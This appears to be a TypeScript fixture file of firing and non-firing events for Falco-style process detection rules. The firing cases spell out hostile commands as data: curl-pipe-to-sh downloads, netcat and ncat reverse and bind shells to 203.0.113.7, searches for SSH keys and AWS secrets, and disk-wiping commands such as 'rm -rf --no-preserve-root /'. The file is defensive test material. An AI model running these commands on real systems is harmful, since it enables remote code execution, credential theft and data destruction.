// Fire / look-alike events for the rules of 10-process.yaml and 11-process-attack-techniques.yaml.
import { type Actor, type RuleCases, withArgs, exec, pathCall } from '../event-builder.js';

const web = { id: '3f2a9c1b7d4e', image: 'docker.io/library/nginx:1.27' };
const php = ['php-fpm8.2 pool www', 'php-fpm8.2 master process (/etc/php/8.2/fpm/php-fpm.conf)', 'systemd'];
const admin: Partial<Actor> = { user: 'alice', uid: 1000, loginuid: 1000 };

export const processCases: RuleCases[] = [
  {
    rule: 'Terminal shell in container',
    fires: {
      'docker exec -it bash': exec({ cmd: 'bash', tty: 34816, ancestors: ['containerd-shim -namespace moby', 'systemd'], container: web }),
      'a pty shell spawned from python': exec({ cmd: 'sh -i', tty: 34817, ancestors: ['python3 -c import pty;pty.spawn("/bin/sh")', 'nginx'], container: web }),
    },
    quiet: {
      'entrypoint shell without a terminal': exec({ cmd: 'sh -c nginx -g daemon off;', ancestors: ['containerd-shim', 'systemd'], container: web }),
      'terminal shell on the host': exec({ cmd: 'bash', tty: 34816, ancestors: ['sshd alice@pts/0', 'sshd'], ...admin }),
      'shell started from the shell already reported': exec({ cmd: 'bash', tty: 34816, ancestors: ['sh', 'containerd-shim'], container: web }),
    },
  },
  {
    rule: 'Shell spawned by a program that must not spawn one',
    fires: {
      'PHP-FPM worker runs sh (web shell)': exec({ cmd: 'sh -c id', user: 'www-data', uid: 33, ancestors: php }),
      'nginx runs bash': exec({ cmd: 'bash -c curl http://203.0.113.7/x | sh', ancestors: ['nginx: worker process', 'nginx', 'systemd'] }),
      'Elasticsearch (java) runs bash': exec({ cmd: 'bash -c wget http://203.0.113.7/m', ancestors: ['java -Xms1g -cp /usr/share/elasticsearch/lib/* org.elasticsearch.bootstrap.Elasticsearch', 'systemd'] }),
      'shell several levels below Apache': exec({ cmd: 'sh -c whoami', ancestors: ['perl /usr/lib/cgi-bin/status.pl', 'apache2 -k start', 'systemd'] }),
    },
    quiet: {
      'login shell from sshd': exec({ cmd: 'bash', tty: 34816, ancestors: ['sshd alice@pts/0', 'sshd', 'systemd'], ...admin }),
      'shell from a build tool (java running gradle)': exec({ cmd: 'sh -c ./gradlew test', ancestors: ['java -cp gradle-launcher.jar org.gradle.launcher.daemon.bootstrap.GradleDaemon', 'bash'], ...admin }),
      'Tomcat shells are opt-in, off by default': exec({ cmd: 'sh -c id', ancestors: ['java -Dcatalina.base=/opt/tomcat org.apache.catalina.startup.Bootstrap start', 'systemd'] }),
      'shell below a shell below nginx (reported once, at the first shell)': exec({ cmd: 'bash', ancestors: ['sh -c bash', 'nginx', 'systemd'] }),
    },
  },
  {
    rule: 'System user ran an interactive shell',
    fires: {
      'www-data shell with a terminal': exec({ cmd: 'bash', user: 'www-data', uid: 33, tty: 34816, ancestors: ['sudo -u www-data bash', 'bash', 'sshd'] }),
      'nobody shell in an ssh session': exec({ cmd: 'sh', user: 'nobody', uid: 65534, ancestors: ['sshd nobody', 'sshd'] }),
    },
    quiet: {
      'a person with a terminal shell': exec({ cmd: 'bash', tty: 34816, ancestors: ['sshd alice@pts/0', 'sshd'], ...admin }),
      'www-data shell without a terminal or login': exec({ cmd: 'sh -c /usr/sbin/sendmail -t -i', user: 'www-data', uid: 33, ancestors: php }),
    },
  },
  {
    rule: 'Database spawned a process',
    fires: {
      'postgres runs a shell (COPY ... PROGRAM)': exec({ cmd: 'sh -c curl http://203.0.113.7/p.sh | sh', user: 'postgres', uid: 110, ancestors: ['postgres', 'systemd'] }),
      'mysqld runs a program (UDF)': exec({ cmd: 'id', user: 'mysql', uid: 111, ancestors: ['mysqld', 'mysqld_safe', 'systemd'] }),
    },
    quiet: {
      'postgres starts postgres': exec({ cmd: 'postgres -D /var/lib/postgresql/15/main', user: 'postgres', uid: 110, ancestors: ['postgres', 'systemd'] }),
      'mysqld_safe starts mysqld': exec({ cmd: 'mysqld --basedir=/usr', user: 'mysql', uid: 111, ancestors: ['mysqld_safe', 'systemd'] }),
      'postgres archives WAL with pgBackRest': exec({ cmd: 'sh -c pgbackrest --stanza=main archive-push pg_wal/000000010000000000000001', user: 'postgres', uid: 110, ancestors: ['postgres', 'systemd'] }),
    },
  },
  {
    rule: 'Server spawned a reconnaissance or download tool',
    fires: {
      'whoami below PHP-FPM': exec({ cmd: 'whoami', user: 'www-data', uid: 33, ancestors: ['sh -c whoami', ...php] }),
      'wget below nginx': exec({ cmd: 'wget -q http://203.0.113.7/x -O /tmp/x', ancestors: ['sh -c wget', 'nginx', 'systemd'] }),
    },
    quiet: {
      'whoami typed by an administrator': exec({ cmd: 'whoami', ancestors: ['bash', 'sshd'], ...admin }),
      'PHP sending mail': exec({ cmd: 'sendmail -t -i', user: 'www-data', uid: 33, ancestors: ['sh -c /usr/sbin/sendmail -t -i', ...php] }),
    },
  },
  {
    rule: 'Namespace changed by an unexpected program',
    fires: {
      'exploit enters the host mount namespace': pathCall({ cmd: 'python3 escape.py', container: web }, 'setns', { fd: '5', nstype: 'CLONE_NEWNS' }),
      'unknown program on the host': pathCall({ cmd: 'implant', ancestors: ['bash', 'sshd'] }, 'setns', { fd: '3', nstype: 'CLONE_NEWNET' }),
    },
    quiet: {
      'runc setting a container up': pathCall({ cmd: 'runc:[2:INIT]', ancestors: ['runc', 'containerd-shim'] }, 'setns', { fd: '5', nstype: 'CLONE_NEWNET' }),
      'nsenter by an administrator on the host': pathCall({ cmd: 'nsenter -t 4242 -n', ancestors: ['bash', 'sshd'] }, 'setns', { fd: '3', nstype: 'CLONE_NEWNET' }),
      'failed setns': pathCall({ cmd: 'implant', ancestors: ['bash'] }, 'setns', { fd: '3', nstype: 'CLONE_NEWNET' }, -1),
    },
  },
  {
    rule: 'Setuid by a non-sudo program',
    fires: {
      'unprivileged exploit asks for root': withArgs({ cmd: 'cve-exploit', exe: './cve-exploit', ...admin, ancestors: ['bash', 'sshd'] }, 'setuid', { uid: '0' }, 'EXIT', -1),
      'the enter event of a Falco capture': withArgs({ cmd: 'cve-exploit', ...admin, ancestors: ['bash'] }, 'setuid', { uid: '0' }, 'ENTER'),
    },
    quiet: {
      'sudo refused (wrong password path)': withArgs({ cmd: 'sudo -i', ...admin, ancestors: ['bash', 'sshd'] }, 'setuid', { uid: '0' }, 'EXIT', -1),
      'a root daemon dropped privileges (the event shows the new user)': withArgs({ cmd: 'nginx', user: 'www-data', uid: 33, ancestors: ['nginx', 'systemd'] }, 'setuid', { uid: 'www-data' }),
      'the exit event of a Falco capture (no arguments)': withArgs({ cmd: 'cve-exploit', ...admin, ancestors: ['bash'] }, 'setuid', {}, 'EXIT', -1),
    },
  },
  {
    rule: 'User management program run outside a package install',
    fires: {
      'useradd by hand': exec({ cmd: 'useradd -m -s /bin/bash -G sudo support', ancestors: ['bash', 'sudo -i', 'bash', 'sshd'] }),
      'root password reset': exec({ cmd: 'passwd root', ancestors: ['bash', 'sshd'] }),
      'root runs passwd without an argument': exec({ cmd: 'passwd', ancestors: ['bash', 'sudo -i', 'bash', 'sshd'] }),
    },
    quiet: {
      'adduser in a package maintainer script': exec({ cmd: 'useradd --system --no-create-home _chrony', ancestors: ['adduser --system _chrony', 'sh /var/lib/dpkg/info/chrony.postinst configure', 'dpkg --configure -a', 'apt-get install chrony'] }),
      'passwd -S only reads': exec({ cmd: 'passwd -S alice', ancestors: ['bash', 'sshd'] }),
      'a user changes their own password': exec({ cmd: 'passwd', ...admin, ancestors: ['bash', 'sshd'] }),
      'useradd in an image build container': exec({ cmd: 'useradd -m app', ancestors: ['sh -c useradd -m app', 'runc'], container: web }),
    },
  },
  {
    rule: 'Fileless execution via memfd',
    fires: {
      'payload run from a memfd': exec({ cmd: 'kworker', memfd: true, exepath: 'memfd:payload (deleted)', ancestors: ['python3 loader.py', 'bash'] }),
      'payload that calls itself runc': exec({ cmd: 'runc init', memfd: true, exepath: '/memfd:x (deleted)', ancestors: ['python3 loader.py', 'bash'] }),
    },
    quiet: {
      'runc re-executing itself from a memfd': exec({ cmd: 'runc init', memfd: true, exepath: 'memfd:runc_cloned:/proc/self/exe', ancestors: ['runc', 'containerd-shim'] }),
      'an ordinary program': exec({ cmd: 'kworker', ancestors: ['bash'] }),
    },
  },
  {
    rule: 'Program executed from /dev/shm',
    fires: {
      'binary in /dev/shm': exec({ cmd: '.x', exe: '/dev/shm/.x', exepath: '/dev/shm/.x', ancestors: ['sh -c cd /dev/shm && ./.x', 'nginx'] }),
      './miner with cwd /dev/shm': exec({ cmd: 'miner', exe: './miner', exepath: '/dev/shm/miner', cwd: '/dev/shm', ancestors: ['bash'] }),
      'script in /dev/shm run by a shell': exec({ cmd: 'bash /dev/shm/s.sh', ancestors: ['sh', 'cron'] }),
    },
    quiet: {
      'binary in a build directory': exec({ cmd: 'app', exe: './app', exepath: '/home/alice/proj/build/app', cwd: '/home/alice/proj/build', ...admin }),
      'listing /dev/shm': exec({ cmd: 'ls -la /dev/shm', ...admin }),
    },
  },
  {
    rule: 'Netcat started with remote code execution options',
    fires: {
      'nc -e reverse shell': exec({ cmd: 'nc -e /bin/sh 203.0.113.7 4444', ancestors: ['sh -c nc', 'nginx'] }),
      'nc bind shell with combined flags': exec({ cmd: 'nc -lvp 4444 -e /bin/bash' }),
      'ncat --sh-exec': exec({ cmd: 'ncat --sh-exec bash 203.0.113.7 9001' }),
      'nc -c': exec({ cmd: 'nc.traditional -c sh 203.0.113.7 1' }),
    },
    quiet: {
      'port check': exec({ cmd: 'nc -vz db.internal 5432', ...admin }),
      'host name with -e inside': exec({ cmd: 'nc -w 5 host-east 80', ...admin }),
    },
  },
  {
    rule: 'Process attached to another with ptrace',
    fires: {
      'PTRACE_ATTACH': withArgs({ cmd: 'injector 1234', ancestors: ['bash'] }, 'ptrace', { request: 'PTRACE_ATTACH', pid: '1234' }),
      'PTRACE_POKETEXT (code injection)': withArgs({ cmd: 'injector 1234', ancestors: ['bash'] }, 'ptrace', { request: 'PTRACE_POKETEXT', pid: '1234' }),
      'PTRACE_SEIZE, enter event of a Falco capture': withArgs({ cmd: 'injector 1234', ancestors: ['bash'] }, 'ptrace', { request: 'PTRACE_SEIZE', pid: '1234' }, 'ENTER'),
    },
    quiet: {
      'PTRACE_CONT of an already traced child': withArgs({ cmd: 'injector 1234', ancestors: ['bash'] }, 'ptrace', { request: 'PTRACE_CONT', pid: '1234' }),
    },
  },
  {
    rule: 'Process blocked debugging of itself',
    fires: {
      'malware traces itself': withArgs({ cmd: 'updater', ancestors: ['sh', 'cron'] }, 'ptrace', { request: 'PTRACE_TRACEME', pid: '0' }),
    },
    quiet: {
      'the child gdb forks to run the debuggee': withArgs({ cmd: 'gdb ./prog', ancestors: ['gdb ./prog', 'bash'], ...admin }, 'ptrace', { request: 'PTRACE_TRACEME', pid: '0' }),
      'a program attaching (other rule)': withArgs({ cmd: 'updater', ancestors: ['sh'] }, 'ptrace', { request: 'PTRACE_ATTACH', pid: '1' }),
    },
  },
  {
    rule: 'Search for private keys or cloud credentials',
    fires: {
      'find id_rsa': exec({ cmd: 'find / -name id_rsa', ancestors: ['sh', 'nginx'] }),
      'grep for private key headers': exec({ cmd: 'grep -r BEGIN OPENSSH PRIVATE KEY /home' }),
      'grep for AWS secret keys': exec({ cmd: 'grep -ri aws_secret_access_key /' }),
    },
    quiet: {
      'find source files': exec({ cmd: 'find . -name *.ts', ...admin }),
      'grep for TODO': exec({ cmd: 'grep -rn TODO src', ...admin }),
      'reading a key with cat is not a search': exec({ cmd: 'cat /home/alice/.ssh/id_rsa.pub', ...admin }),
    },
  },
  {
    rule: 'Kernel module loaded',
    fires: {
      'insmod of a rootkit': pathCall({ cmd: 'insmod /tmp/diamorphine.ko', ancestors: ['bash', 'sshd'] }, 'finit_module', { fd: '3', uargs: '', flags: '0' }),
      'init_module from a script': pathCall({ cmd: 'python3 load.py', ancestors: ['bash'] }, 'init_module', { len: '16384', uargs: '' }),
    },
    quiet: {
      'modprobe requested by the kernel': pathCall({ cmd: 'modprobe -q -- net-pf-38', ancestors: ['kthreadd'] }, 'finit_module', { fd: '3', uargs: '', flags: '0' }),
      'udev loading drivers at boot': pathCall({ cmd: 'systemd-udevd', ancestors: ['systemd'] }, 'finit_module', { fd: '7', uargs: '', flags: '0' }),
      'failed load': pathCall({ cmd: 'insmod /tmp/x.ko', ancestors: ['bash'] }, 'finit_module', { fd: '3', uargs: '', flags: '0' }, -1),
    },
  },
  {
    rule: 'Bulk data removed from disk',
    fires: {
      'shred': exec({ cmd: 'shred -u -n 3 /var/lib/mysql/ibdata1' }),
      'dd zeros over a disk': exec({ cmd: 'dd if=/dev/zero of=/dev/sda bs=1M' }),
      'rm --no-preserve-root': exec({ cmd: 'rm -rf --no-preserve-root /' }),
    },
    quiet: {
      'dd making a swap file': exec({ cmd: 'dd if=/dev/zero of=/swapfile bs=1M count=1024' }),
      'rm of a build directory': exec({ cmd: 'rm -rf build', ...admin }),
      'dd to /dev/null': exec({ cmd: 'dd if=/dev/urandom of=/dev/null bs=1M count=10', ...admin }),
    },
  },
];
